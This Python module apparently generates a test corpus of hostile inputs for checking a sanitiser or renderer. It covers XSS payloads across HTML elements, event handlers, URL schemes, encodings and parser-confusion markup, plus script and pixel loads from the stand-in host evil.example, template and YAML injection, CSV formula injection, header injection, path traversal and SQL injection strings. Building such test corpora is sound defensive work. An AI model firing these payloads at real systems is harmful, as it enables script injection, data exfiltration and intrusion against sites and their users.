"""Texts that mean harm, by class: each is made of what it attacks, none is copied from a list."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "top.harm=alert(1)"
"""What runs where a text gets through: a dialog, and a mark that is left."""

_VOID = (
    "img src=x",
    "image href=x",
    "input autofocus",
    "body",
    "svg",
    "video src=x",
    "audio src=x",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "iframe src=x",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a href=# autofocus",
    "p style=width:1px",
    "math",
    "style",
    "link rel=stylesheet href=x",
    "frameset",
    "dialog open",
    "x-own tabindex=0 autofocus",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x",
    "video><source",
    "table background=x",
    "form",
    "template",
    "noscript",
)
_EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onbegin",
    "ontoggle",
    "onpageshow",
    "onanimationstart",
)
_CLOSED = (
    "script",
    "style",
    "title",
    "textarea",
    "svg",
    "math",
    "noscript",
    "template",
    "iframe",
    "xmp",
    "select",
    "option",
    "table",
    "a",
    "p",
    "h1",
    "main",
    "section",
    "ul",
    "dialog",
    "head",
    "body",
    "html",
    "desc",
    "foreignObject",
    "text",
    "style></svg",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#10;script:",
    "&#106;avascript:",
    "&#x6A;avascript&colon;",
    "%6aavascript:",
    " javascript:",
    "\x01javascript:",
    "javascript\u200b:",
    "javascript&#58;",
    "vbscript:",
    "data:text/html,",
    "view-source:",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
    "file:///etc/passwd#",
    "blob:null/",
    "feed:javascript:",
    "//evil.example/",
    "\\\\evil.example\\",
)
_FORMS = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "<a href='{}'>x</a>",
    "<form action='{}'><button>x</button></form>",
    "<iframe src='{}'></iframe>",
)


def texts() -> list[str]:
    """All of them, each once, in a stable order."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from _elements()
    yield from _quotes()
    yield from _addresses()
    yield from _encodings()
    yield from _confusions()
    yield from _other_languages()


def _elements() -> Iterator[str]:
    """Elements that act, and the ends of whatever a text may stand in."""
    for number, element in enumerate(_VOID):
        for event in (_EVENTS[number % 8], _EVENTS[(number + 3) % 8]):
            yield f"<{element} {event}={CALL}>"
    for name in _CLOSED:
        yield f"</{name}><script>{CALL}</script>"
        yield f"</{name}><img src=x onerror={CALL}>"
    for end in ("-->", "]]>", "*/", "?>", "%>", "'>", '">', "`>", "\n>", "/>"):
        yield f"{end}<script>{CALL}</script>"
    yield from (
        f"<script>{CALL}</script>",
        f"<SCRIPT\n>{CALL}</SCRIPT >",
        f"<script/x>{CALL}</script>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>import '//evil.example'",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<meta http-equiv=Content-Security-Policy content=''>",
        "<link rel=prefetch href=//evil.example>",
        "<iframe srcdoc='<script>top.harm=1</script>'></iframe>",
        "<object data=//evil.example/x.swf>",
        "<form action=//evil.example><input name=q><button autofocus>x</button></form>",
        "<style>@import '//evil.example/x.css';*{display:none}</style>",
        "<frame src=//evil.example>",
        "<video poster=//evil.example/x.png></video>",
        "<img srcset='//evil.example/x.png 2x'>",
        "<portal src=//evil.example></portal>",
        "<button popovertarget=x onbeforetoggle=alert(1)>",
    )


def _quotes() -> Iterator[str]:
    """Ends of attributes."""
    for quote, event in product(('"', "'", "`", "&quot;", "&#39;", "\\"), _EVENTS[:5]):
        yield f"x{quote} {event}={quote}{CALL}{quote} y={quote}"
    for quote in ('"', "'"):
        yield f"x{quote} style={quote}background:url(//evil.example)"
        yield f"x{quote} srcdoc={quote}<script>{CALL}</script>"
        yield f"x{quote} formaction={quote}javascript:{CALL}"
        yield f"x{quote} autofocus tabindex=0 onfocus={quote}{CALL}"


def _addresses() -> Iterator[str]:
    """Addresses that do something, in whatever form a link may have."""
    for scheme, form in product(_SCHEMES, _FORMS):
        yield form.format(f"{scheme}{CALL}")
    yield f'[x](https://a.example "\\" onclick=\\"{CALL}")'
    yield f'![x" onerror="{CALL}](https://a.example/x.png)'
    yield f'https://a.example/"onmouseover="{CALL}'
    yield "![x](https://evil.example/pixel.png)"
    yield "https://user:secret@evil.example/ http://[::1]/ mailto:x@evil.example?bcc=y"


def _encodings() -> Iterator[str]:
    """The same in other spellings, which something may undo once too often."""
    script = f"<script>{CALL}</script>"
    yield "".join(f"&#{ord(sign)};" for sign in script)
    yield "".join(f"&#x{ord(sign):x};" for sign in script)
    yield "".join(f"%{ord(sign):02x}" for sign in script)
    yield "".join(f"%25{ord(sign):02x}" for sign in script)
    yield "".join(f"\\u{ord(sign):04x}" for sign in script)
    yield "".join(f"\\x{ord(sign):02x}" for sign in script)
    yield script.replace("<", "&lt;").replace(">", "&gt;")
    yield script.replace("<", "&amp;lt;")
    yield script.replace("<", "\uff1c").replace(">", "\uff1e")
    yield script.replace("<", "\ufe64").replace(">", "\ufe65")
    yield script.replace("s", "\u017f")
    yield script.replace("<", "<\u0338")
    yield script.replace("script", "scr\u00adipt")
    yield "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "\u2028alert(1)\u2029</script>"
    yield "\ue000<b>\ue000\ue001\x7f"
    yield "\u202e<tpircs>\u202c \u2066<script>\u2069"


def _confusions() -> Iterator[str]:
    """Mark-up that reads one way and is taken another."""
    call = f"<img src=x onerror={CALL}>"
    yield f"<noscript><p title='</noscript>{call}'>"
    yield f"<svg></p><style><a title='</style>{call}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{call}"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{call}"
    yield f"<textarea><!--</textarea>{call}-->"
    yield f"<!--><script>{CALL}</script>-->"
    yield f"<!-- --!>{call}"
    yield f"<![CDATA[{call}]]>"
    yield f"<?xml-stylesheet href='javascript:{CALL}'?>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<a\x0chref='javascript:{CALL}'>x</a>"
    yield f"<img/src=x/onerror={CALL}//"
    yield f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/></svg>"
    yield f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='{call}'></iframe></foreignObject></svg>"
    yield "<a id=okrsite name=attributes></a><form id=body><input name=firstChild></form>"
    yield f'```" onload="{CALL}\nx\n```'
    yield f"`{call}` ~~{call}~~ **{call}** | {call} | [^1]\n\n[^1]: {call}"
    yield f"- [ ] {call}\n- [x] {call}"


def _other_languages() -> Iterator[str]:
    """What other readers of a text may take for an order: templates, styles, YAML, logs, sheets."""
    yield from (
        "{{ 7 * 7 }}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__ }}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        "[[${7*7}]]",
        "x{}*{background:url(//evil.example)}",
        "</style><style>*{display:none}",
        "expression(alert(1))",
        "!!python/object/apply:os.system ['id']",
        "&anchor [*anchor]",
        "<<: *x",
        "%YAML 1.1\n---\n...",
        "x\r\nSet-Cookie: harm=1\r\n\r\n<script>alert(1)</script>",
        "/*\n  X-Harm: 1",
        "/x //evil.example 301!",
        "END:VCALENDAR\r\nBEGIN:VEVENT",
        "::error::x",
        "##vso[task.setvariable]x",
        "\x1b]0;x\x07\x1b[2J",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "+1+cmd",
        "-2+3+cmd",
        "__proto__",
        "constructor",
        "toString",
        "../../../../etc/passwd",
        "..\\..\\x",
        "%2e%2e%2f",
        "file.md\x00.html",
        "con",
        "' OR 1=1 --",
    )
